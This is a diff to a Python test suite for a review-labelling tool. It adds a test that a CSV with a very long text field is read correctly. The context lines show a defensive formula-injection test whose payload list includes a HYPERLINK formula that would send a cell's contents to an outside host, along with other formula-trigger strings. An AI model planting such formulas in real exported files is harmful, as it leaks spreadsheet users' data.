@@ -174,6 +174,13 @@ def test_the_file_has_room_for_labels(tmp_path: Path, several: bool) -> None:
         write_review(sample, tmp_path / "review.txt")
 
 
+def test_a_review_with_a_long_text_is_read(tmp_path: Path) -> None:
+    """Longer than the blocks in which Arrow reads CSV by default."""
+    file = tmp_path / "review.csv"
+    file.write_text(f"id,text,true_label\n1,{'word ' * 700_000},good\n2,short,bad\n")
+    assert [(row.id, row.true_labels) for row in read_label_file(file)] == [("1", ("good",)), ("2", ("bad",))]
+
+
 def test_a_spreadsheet_takes_no_cell_of_a_review_for_a_formula(tmp_path: Path) -> None:
     """Ids, texts and classes are read back unchanged, also those that look as if they were written safely."""
     formulas = ('=HYPERLINK("http://h/?"&A1)', "+1+1", "-2", "@SUM(1)", "\t=1", "\r=1", "\uff1d1", "'=1", "''-1")
